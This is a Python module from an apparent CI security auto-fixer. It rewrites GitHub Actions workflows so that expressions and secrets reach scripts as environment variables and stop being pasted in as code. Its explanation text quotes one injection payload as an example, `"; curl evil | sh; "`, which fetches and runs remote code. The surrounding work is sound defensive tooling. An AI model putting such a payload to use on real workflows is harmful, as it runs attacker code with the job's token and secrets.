"""Expressions that become code of a script."""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterator

from daemon.domain.fix import Candidate, Edit
from workers.fixers.registry import NoFix, Target, fixer
from workers.fixers.workflows import expressions, model, other_rewrite, pasted, shell_rewrite, step_outputs
from workers.fixers.workflows.model import EXPRESSION, Workflow
from workers.fixers.workflows.pasted import Script
from workers.fixers.workflows.shell_rewrite import Change
from workers.source import handed, yamledit
from workers.source.yamldoc import Node, dotted

_INPUT = re.compile(r"(?:github\.event\.)?inputs\.(?P<name>[\w-]+)")
_READ = {"shell": '`"$NAME"`', "powershell": "`$env:NAME`", "python": "`os.environ`", "javascript": "`process.env`"}


@fixer(
    name="template-injection",
    weakness="An expression is pasted into a script as code",
    rules={
        "zizmor": ["template-injection"],
        "semgrep": ["run-shell-injection", "github-script-injection"],
        "checkov": ["CKV_GHA_2"],
        "codeql": ["actions/code-injection/*"],
        "actionlint": ["expression"],
    },
    explain=(
        "GitHub replaces `${{ … }}` before the shell sees the script, so a pull request's title such as "
        '`"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets. Passed through an '
        'environment variable the value stays data: the shell expands `"$NAME"` after it has parsed the script, and '
        "never parses the result. The variable must stand where it is expanded (not in single quotes or a quoted "
        "heredoc) and in double quotes, so that it stays one word. Approaches: a variable of the step; one of the job, "
        "where several steps need it; the variable that the runner sets anyway (`$GITHUB_HEAD_REF`); in "
        "github-script, the payload that the action hands over; where a step has none of these, every script of the "
        "file at once."
    ),
)
def propose(target: Target) -> Iterator[Candidate]:
    """A script with expressions → the same script with variables."""
    workflow = model.read(target)
    scripts = _scripts(target, workflow)
    reasons: list[NoFix] = []
    made = 0
    for make in (_step_variables, _other_words, _runner_variables, _job_variables, _payload):
        try:
            found = make([script.fresh() for script in scripts])
        except NoFix as reason:
            reasons.append(reason)
            continue
        if found is not None:
            made += 1
            yield found
    if not made:
        raise reasons[0]
    if made == 1 and (everywhere := _everywhere(workflow, scripts)) is not None:
        yield everywhere


@fixer(
    name="secret-in-command",
    weakness="A secret is pasted into a command",
    rules={"checkov": ["CKV_GHA_3"]},
    explain=(
        "An expression is replaced in the script's text, so the secret stands in the script that the runner writes to "
        "disk, where a quote or a dollar in it becomes code. As a variable of the step it stays data. Where the "
        "command can read it from a file or from standard input, that also hides it from the list of processes. "
        'Approaches: a variable of the step, read as `"$NAME"`.'
    ),
)
def secret_in_command(target: Target) -> Iterator[Candidate]:
    """`${{ secrets.NAME }}` in a script → a variable of the step."""
    workflow = model.read(target)
    first, last = model.lines(target)
    steps = [step for step in workflow.steps if first <= workflow.doc.line_of(step.node.end) and "curl" in step.run]
    for step in [one for one in steps if workflow.doc.line_of(one.node.start) <= max(last, first)]:
        script = pasted.of_step(workflow, step)
        if script is None or script.language != "shell" or not _holds_secret(script):
            continue
        edits = script.edits(shell_rewrite.rewrite(script.text, _is_secret, script.name))
        edits += _environment(script, step.node, before="run")
        yield _made("env-variable", [script], edits, _explained(script, "the step", loose=False))
        return
    message = "no secret is pasted into a command here: the line only names one"
    raise NoFix(message)


def _holds_secret(script: Script) -> bool:
    return any(_is_secret(match[0]) for match in EXPRESSION.finditer(script.text))


def _is_secret(expression: str) -> bool:
    return "secrets" in expressions.contexts(expression)


def _never(expression: str) -> bool:
    del expression
    return False


def _always(expression: str) -> bool:
    return not _never(expression)


def _loose(expression: str) -> bool:
    return expressions.foreign(expression) and not expressions.one_word(expression)


def _several(expression: str) -> bool:
    return expressions.foreign(expression) and shell_rewrite.may_be_several(expression)


def _scripts(target: Target, workflow: Workflow) -> list[Script]:
    first, last = model.lines(target)
    flagged = pasted.of_step(workflow, model.flagged_step(target, workflow))
    if flagged is not None and pasted.pasted_into(flagged):
        return [flagged]
    inside = [step for step in workflow.steps if first <= workflow.doc.line_of(step.node.start) <= last]
    found = [
        script
        for step in inside
        if (script := pasted.of_step(workflow, step)) is not None and pasted.pasted_into(script)
    ]
    if not found:
        message = "no expression of this step carries text that somebody else can choose"
        raise NoFix(message)
    return found


def _changes(script: Script, name: Callable[[str], str], *, split: Callable[[str], bool] = _never) -> list[Change]:
    if script.language == "shell":
        zsh = script.workflow.shell(script.step).endswith("zsh")
        known = functools.partial(step_outputs.listed, script.workflow, script.step)
        whole = shell_rewrite.commands(script.text, expressions.foreign)
        for one in shell_rewrite.bare(script.text, expressions.foreign):
            if one not in whole:
                _no_command_line(script, one)
        return shell_rewrite.rewrite(
            script.text,
            expressions.foreign,
            name,
            split=lambda one: split(one) or handed.is_several([*known(one), *_handed(script, one)]),
            command=lambda one: bool(known(one)),
            zsh=zsh,
        )
    return other_rewrite.rewrite(script.language, script.text, expressions.foreign, name)


def _handed(script: Script, expression: str) -> list[str]:
    """What callers of this action or workflow give for an input."""
    match = _INPUT.fullmatch(expressions.inner(expression))
    path, tree = script.workflow.doc.path, script.workflow.tree
    return handed.values(path, match["name"], tree) if match and path and tree is not None else []


def _no_command_line(script: Script, expression: str) -> None:
    """Raises `NoFix` where the text is part of the command line: a variable's quotes and signs are read by nobody."""
    match = _INPUT.fullmatch(expressions.inner(expression))
    if match is not None and handed.is_shell(match["name"], _handed(script, expression)):
        message = f"`{expression}` is a piece of a command line, whose quotes a variable would keep as text"
        raise NoFix(message)


def _step_variables(scripts: list[Script]) -> Candidate:
    edits = [edit for script in scripts for edit in _with_variables(script, shell_rewrite.may_be_several)]
    loose = any(_bare(script, _several) for script in scripts)
    why = _explained(scripts[0], "the step", loose=loose) + "".join(_commands(scripts))
    return _made("env-variable", scripts, edits, why)


def _commands(scripts: list[Script]) -> Iterator[str]:
    """Which commands the variables stand for that are commands themselves."""
    for script in scripts:
        wanted = shell_rewrite.commands(script.text, expressions.foreign) if script.language == "shell" else []
        for one in dict.fromkeys(wanted):
            named = ", ".join(step_outputs.listed(script.workflow, script.step, one))
            yield f" What stands for a command stays bare: an earlier step of the job makes it one of {named}."


def _other_words(scripts: list[Script]) -> Candidate | None:
    """The other choice for bare words: split where they were taken for one.

    What looks like several words stays split: quoted, a list of options would be one, and an absent one an empty word.
    """
    several = any(_bare(script, _several) or _bare(script, expressions.switch) for script in scripts)
    if several or not any(_bare(script, _loose) for script in scripts):
        return None
    edits = [edit for script in scripts for edit in _with_variables(script, _always)]
    return _made("env-variable-split", scripts, edits, _explained(scripts[0], "the step", loose=True))


def _everywhere(workflow: Workflow, flagged: list[Script]) -> Candidate | None:
    """Every script of the file that text is pasted into; none where there is no other."""
    edits: list[Edit] = []
    done: list[Script] = []
    for step in workflow.steps:
        try:
            script = pasted.of_step(workflow, step)
            if script is None or not pasted.pasted_into(script):
                continue
            edits += _with_variables(script, shell_rewrite.may_be_several)
        except NoFix:
            continue
        done.append(script)
    own = {script.step.path for script in flagged}
    if len(done) < 2 or not own <= {script.step.path for script in done}:
        return None
    why = f"All {len(done)} scripts of this file read what was pasted into them from environment variables: "
    return _made("env-variable-file", done, edits, f"{why}{_became(done)}. Each step has its own.")


def _bare(script: Script, wanted: Callable[[str], bool]) -> bool:
    return script.language == "shell" and shell_rewrite.splits(script.text, wanted)


def _runner_variables(scripts: list[Script]) -> Candidate | None:
    """The runner sets a variable for it already: no `env` is needed."""

    def known(expression: str) -> str:
        found = expressions.already_set(expression)
        if found is None:
            message = "the runner sets no variable for this expression"
            raise NoFix(message)
        return found

    if any(one.language == "javascript" for one in scripts) or all(
        expressions.inner(match[0]).startswith("env.")
        for one in scripts
        for match in EXPRESSION.finditer(one.text)
        if expressions.foreign(match[0])
    ):
        return None
    edits = [edit for script in scripts for edit in script.edits(_changes(script, known))]
    why = "The runner sets this variable for every step, so the script reads it without an `env` of its own."
    return _made("runner-variable", scripts, edits, why)


def _job_variables(scripts: list[Script]) -> Candidate | None:
    """The variable belongs to the job, where all its steps can read it."""
    edits: list[Edit] = []
    for script in scripts:
        job = script.step.job
        edits += script.edits(_changes(script, script.name, split=shell_rewrite.may_be_several))
        if job is None or any(
            not expressions.contexts(value) <= expressions.JOB_CONTEXTS for value in script.names.values()
        ):
            return None
        edits += _environment(script, job.node, before="steps")
    if not any(script.names for script in scripts):
        return None
    paths = [(*script.step.job.path, "env", name) for script in scripts if script.step.job for name in script.names]
    loose = any(_bare(script, _several) for script in scripts)
    why = _explained(scripts[0], "the job, for all its steps", loose=loose)
    return model.candidate("env-variable-job", edits, why, declares=[*paths, *_paths(scripts)])


def _payload(scripts: list[Script]) -> Candidate | None:
    """github-script hands the event over as an object: no text is pasted at all."""
    edits: list[Edit] = []
    for script in scripts:
        if script.step.action != "actions/github-script":
            return None
        try:
            changes = other_rewrite.from_context(script.text, expressions.foreign)
        except NoFix:
            return None
        if changes is None:
            return None
        edits += script.edits(changes)
    why = (
        "The script reads the event through github-script's own `context`: the value is an object's field, never code."
    )
    return _made("github-context", scripts, edits, why) if edits else None


def _with_variables(script: Script, split: Callable[[str], bool]) -> list[Edit]:
    edits = script.edits(_changes(script, script.name, split=split))
    return edits + _environment(script, script.step.node, before="run")


def _environment(script: Script, node: Node, *, before: str) -> list[Edit]:
    """The variables in the `env` of a step or a job, which is made in front of the key `before`."""
    names = node.keys()
    index = names.index(before) if before in names else 0
    values: dict[str, yamledit.Value] = dict(script.names)
    try:
        return yamledit.put_all(script.workflow.doc, node, "env", values, after=names[index - 1] if index else None)
    except ValueError as error:
        message = f"the `env` here cannot be added to: {error}"
        raise NoFix(message) from error


def _paths(scripts: list[Script]) -> list[str]:
    keys = [(*one.step.path, *(() if one.key == "run" else ("with",)), one.key) for one in scripts]
    return [dotted(key) for key in keys]


def _made(approach: str, scripts: list[Script], edits: list[Edit], why: str) -> Candidate:
    env = [dotted((*one.step.path, "env")) for one in scripts if one.names]
    return model.candidate(approach, edits, why, declares=[*_paths(scripts), *env])


def _explained(script: Script, owner: str, *, loose: bool) -> str:
    reads = _READ[script.language].replace('"', "") if loose else _READ[script.language]
    words = (
        " Where it stood bare it stays so, and is split into words as it was: it can add arguments, not commands."
        if loose
        else ""
    )
    what = _became([script])
    return f"The value reaches the script as an environment variable of {owner}, read as {reads}: {what}.{words}"


def _became(scripts: list[Script]) -> str:
    """What the values are to those who read them."""
    shell = [script.text for script in scripts if script.language == "shell"]
    programs = [name for text in shell for name in shell_rewrite.programs(text, expressions.foreign)]
    return f"no code of the shell any more; {programs[0]} reads it as its own" if programs else "data, never code"
